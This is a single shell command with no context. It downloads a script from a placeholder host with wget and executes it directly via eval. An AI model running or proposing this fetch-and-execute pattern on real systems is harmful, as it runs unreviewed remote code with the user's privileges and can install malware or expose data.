eval "$(wget -O- https://x.example/s)"
